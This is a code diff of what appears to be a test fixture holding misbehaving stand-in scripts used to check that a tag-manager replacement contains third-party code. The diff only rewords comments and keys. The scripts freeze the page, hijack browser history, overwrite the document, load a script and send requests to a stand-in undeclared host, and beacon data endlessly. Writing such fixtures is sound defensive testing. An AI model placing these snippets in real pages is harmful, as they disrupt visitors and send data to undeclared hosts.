@@ -1,15 +1,15 @@
-/** What a vendor's script may do wrong, each in the place of Google's tag manager. */
+/** Misbehaving scripts that replace Google Tag Manager's. */
 export const hostile = {
-  'throws at once': `throw new Error('stand-in: thrown')`,
-  'holds the page up for five seconds': `const end = performance.now() + 5000; while (performance.now() < end);`,
+  'throws immediately': `throw new Error('stand-in: thrown')`,
+  'blocks the page for five seconds': `const end = performance.now() + 5000; while (performance.now() < end);`,
   'rewrites the history': `
     history.pushState({}, '', '/elsewhere')
     history.replaceState(null, '', '/elsewhere')
     try { history.pushState = () => {} } catch {}
     try { History.prototype.pushState.call(history, {}, '', '/stolen') } catch {}`,
-  'writes over the document': `
+  'overwrites the document': `
     setTimeout(() => document.write('<h1>Gone</h1>'), 0)`,
-  'asks an address that it has not declared': `
+  'requests an undeclared address': `
     const evil = 'https://undeclared.example/'
     new Image().src = evil + 'picture'
     fetch(evil + 'fetched').catch(() => {})
@@ -17,7 +17,7 @@ export const hostile = {
     try { script.src = evil + 'script.js'; document.head.append(script) } catch {}`,
 } as const
 
-/** Goes on sending whatever it is told. */
+/** Keeps sending after it was stopped. */
 export const neverStops = `setInterval(() => {
   const address = 'https://region1.google-analytics.com/g/collect?en=still&by='
   navigator.sendBeacon(address + 'beacon')
@@ -26,8 +26,8 @@ export const neverStops = `setInterval(() => {
 }, 20)`
 
 /**
- * Runs in the page: asks an origin for what is no script, picture or call.
- * @returns in how many ways
+ * Runs in the page. Requests a style sheet, a prefetch, a preload, and a font from an origin.
+ * @returns the number of requests
  */
 export function tryOtherWays(origin: string): number {
   const link = (rel: string, more: object) =>
